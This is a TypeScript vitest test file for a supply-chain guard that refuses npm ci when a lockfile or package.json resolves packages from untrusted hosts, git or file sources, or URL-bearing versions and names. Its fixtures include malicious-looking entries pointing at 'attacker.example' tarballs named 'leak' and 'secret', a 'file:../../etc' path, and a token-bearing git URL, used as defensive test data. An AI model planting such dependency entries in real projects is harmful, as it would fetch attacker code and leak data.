import { describe, expect, it } from 'vitest';
import { installDeps } from '../../src/evolve/repo/deps.ts';
import type { Git } from '../../src/evolve/repo/git.ts';
import { refuseLockfile, refusePackageJson, trustedOrigins } from '../../src/evolve/repo/lockfile.ts';
import type { Sandbox } from '../../src/evolve/jail/sandbox.ts';
import { tempDir } from './helpers.ts';

const v3 = (packages: Record<string, unknown>) => JSON.stringify({ name: 't', lockfileVersion: 3, packages: { '': { name: 't' }, ...packages } });
const npmjs = (name: string) => ({ version: '1.0.0', resolved: `https://registry.npmjs.org/${name}/-/${name}-1.0.0.tgz`, integrity: 'sha512-x' });

describe('the lockfile check before a networked npm ci', () => {
  it("allows npm's registry, the parent's own registries, and local links", () => {
    const parent = v3({ 'node_modules/a': { version: '1.0.0', resolved: 'https://npm.internal.example/a/-/a-1.0.0.tgz' } });
    const trusted = trustedOrigins(parent);
    expect([...trusted].sort()).toEqual(['https://npm.internal.example', 'https://registry.npmjs.org']);
    expect(refuseLockfile(v3({
      'node_modules/zod': npmjs('zod'),
      'node_modules/a': { version: '1.1.0', resolved: 'https://npm.internal.example/a/-/a-1.1.0.tgz' },
      'node_modules/local': { resolved: 'packages/local', link: true },
      'packages/local': { version: '0.0.0' },
    }), trusted)).toBeNull();
  });

  it('refuses a tarball on any other host, naming the package, without fetching anything', () => {
    const why = refuseLockfile(v3({ 'node_modules/x': { version: '1.0.0', resolved: 'https://attacker.example/c2VjcmV0.tgz' } }), trustedOrigins(null));
    expect(why).toMatch(/node_modules\/x from https:\/\/attacker\.example, a registry the parent's lockfile does not use/);
  });

  it('refuses git, ssh and file sources, in v1 lockfiles too', () => {
    const trusted = trustedOrigins(null);
    expect(refuseLockfile(v3({ 'node_modules/g': { resolved: 'git+ssh://git@github.com/a/b.git#abc' } }), trusted)).toMatch(/node_modules\/g from "git\+ssh/);
    expect(refuseLockfile(v3({ 'node_modules/f': { resolved: 'file:../../etc' } }), trusted)).toMatch(/node_modules\/f/);
    const withToken = refuseLockfile(v3({ 'node_modules/t': { resolved: 'git+https://user:ghp_secret@github.com/a/b.git' } }), trusted);
    expect(withToken).toMatch(/node_modules\/t/);
    expect(withToken).not.toContain('ghp_secret');
    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { ok: npmjs('ok'), outer: { version: '1.0.0', resolved: 'https://registry.npmjs.org/outer/-/outer-1.0.0.tgz',
      dependencies: { inner: { version: 'github:someone/thing#deadbeef' } } } } });
    expect(refuseLockfile(v1, trusted)).toMatch(/inner from "github:someone/);
  });

  it('refuses a lockfile that is not JSON', () => {
    expect(refuseLockfile('{nope', trustedOrigins(null))).toBe('the lockfile is not valid JSON');
  });
});

// npm ci fetches an entry without `resolved` as `<name>@<version>` (arborist's reify): a URL or a git spec in either
// goes wherever it points. Both were proved against npm 11 with a local server before the check looked at them.
describe('sources hidden outside `resolved`', () => {
  const trusted = trustedOrigins(null);

  it('refuses a version that is a URL, a git spec or a github shorthand (v3 and v1)', () => {
    expect(refuseLockfile(v3({ 'node_modules/foo': { version: 'https://attacker.example/leak.tgz' } }), trusted)).toMatch(/node_modules\/foo from https:\/\/attacker\.example,/);
    expect(refuseLockfile(v3({ 'node_modules/foo': { version: 'someone/thing#deadbeef' } }), trusted)).toMatch(/node_modules\/foo/);
    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { foo: { version: 'someone/thing#deadbeef' } } });
    expect(refuseLockfile(v1, trusted)).toMatch(/foo from "someone\/thing/);
  });

  it('refuses a name that carries a spec (name@url), in the entry or in its path', () => {
    expect(refuseLockfile(v3({ 'node_modules/foo': { name: 'foo@https://attacker.example/leak.tgz#', version: '1.0.0' } }), trusted)).toMatch(/node_modules\/foo/);
    expect(refuseLockfile(v3({ 'node_modules/foo@gist:abc': npmjs('foo') }), trusted)).toMatch(/gist/);
  });

  it('still allows registry versions, npm: aliases, bundled entries and workspace folders', () => {
    expect(refuseLockfile(v3({
      'node_modules/a': { version: '1.2.3-beta.1' },
      'node_modules/alias': { name: 'zod', version: '3.0.0', resolved: 'https://registry.npmjs.org/zod/-/zod-3.0.0.tgz' },
      'node_modules/@scope/b': { version: '2.0.0', inBundle: true },
      'node_modules/a/node_modules/c': { version: '0.1.0' },
      'packages/local': { name: 'local', version: '0.0.0' },
    }), trusted)).toBeNull();
    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { a: { version: 'npm:zod@3.0.0' }, b: { version: '1.0.0', bundled: true } } });
    expect(refuseLockfile(v1, trusted)).toBeNull();
  });
});

describe('every lockfile npm could use is checked', () => {
  it('refuses an npm-shrinkwrap.json beside a clean package-lock.json (npm ci prefers the shrinkwrap)', async () => {
    const files: Record<string, Record<string, string>> = {
      parent: { 'package.json': '{"name":"t"}', 'package-lock.json': v3({}) },
      child: {
        'package.json': '{"name":"t"}',
        'package-lock.json': v3({ 'node_modules/zod': npmjs('zod') }),
        'npm-shrinkwrap.json': v3({ 'node_modules/zod': { version: '1.0.0', resolved: 'https://attacker.example/c2VjcmV0.tgz' } }),
      },
    };
    const git = { readFile: async (sha: string, file: string) => files[sha]?.[file] ?? null } as unknown as Git;
    let ran = 0;
    const sandbox = { kind: 'none', limits: 'none', run: async () => { ran++; throw new Error('npm must not run'); } } as unknown as Sandbox;
    const out = await installDeps(git, sandbox, 'child', 'parent', `${tempDir('evolve-deps-')}/deps`, 10_000);
    expect(ran).toBe(0);
    expect(out.refused).toMatch(/npm-shrinkwrap\.json.*attacker\.example|attacker\.example.*npm-shrinkwrap/);
  });
});

// When package.json and the lockfile disagree, npm ci first builds the tree it wants, and resolving a dependency
// spec fetches from where the spec points: proved with a local server for a package.json dependency and for a
// lockfile entry's own `dependencies` — before npm reports the lockfile out of sync.
describe('dependency specs npm resolves before it checks the lockfile', () => {
  const trusted = trustedOrigins(null);

  it("refuses a lockfile entry's dependency spec that is a URL or a git shorthand", () => {
    expect(refuseLockfile(v3({ 'node_modules/foo': { ...npmjs('foo'), dependencies: { bar: 'http://attacker.example/leak.tgz' } } }), trusted))
      .toMatch(/node_modules\/foo.*attacker\.example/);
    expect(refuseLockfile(v3({ 'node_modules/foo': { ...npmjs('foo'), optionalDependencies: { bar: 'someone/thing' } } }), trusted)).toMatch(/someone\/thing/);
    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { foo: { ...npmjs('foo'), requires: { bar: 'git+ssh://x@y/z.git' } } } });
    expect(refuseLockfile(v1, trusted)).toMatch(/foo/);
  });

  it("refuses the candidate's package.json naming a URL, git or file dependency (or override)", () => {
    const pkg = (fields: Record<string, unknown>) => JSON.stringify({ name: 't', ...fields });
    expect(refusePackageJson(pkg({ dependencies: { foo: 'http://attacker.example/leak.tgz' } }), trusted)).toMatch(/foo.*attacker\.example/);
    expect(refusePackageJson(pkg({ devDependencies: { foo: 'github:someone/thing' } }), trusted)).toMatch(/github:someone/);
    expect(refusePackageJson(pkg({ overrides: { foo: { bar: 'someone/thing' } } }), trusted)).toMatch(/someone\/thing/);
    expect(refusePackageJson(pkg({
      dependencies: { a: '^1.2.3', b: 'latest', c: 'npm:@scope/c@~2.0.0', d: '>=1 <2 || 3.x', e: '*', f: '' },
      peerDependencies: { g: '^16 || ^17' }, overrides: { a: '1.2.4', '@scope/x': { y: '$a' } },
    }), trusted)).toBeNull();
  });
});

it("installDeps refuses a package.json dependency on another host before npm runs", async () => {
  const files: Record<string, string> = { 'package.json': '{"name":"t","dependencies":{"zod":"http://attacker.example/leak.tgz"}}', 'package-lock.json': v3({ 'node_modules/zod': npmjs('zod') }) };
  const git = { readFile: async (_sha: string, file: string) => files[file] ?? null } as unknown as Git;
  const sandbox = { kind: 'none', limits: 'none', run: async () => { throw new Error('npm must not run'); } } as unknown as Sandbox;
  const out = await installDeps(git, sandbox, 'child', 'parent', `${tempDir('evolve-deps-')}/deps`, 10_000);
  expect(out.refused).toMatch(/package\.json.*attacker\.example/);
});
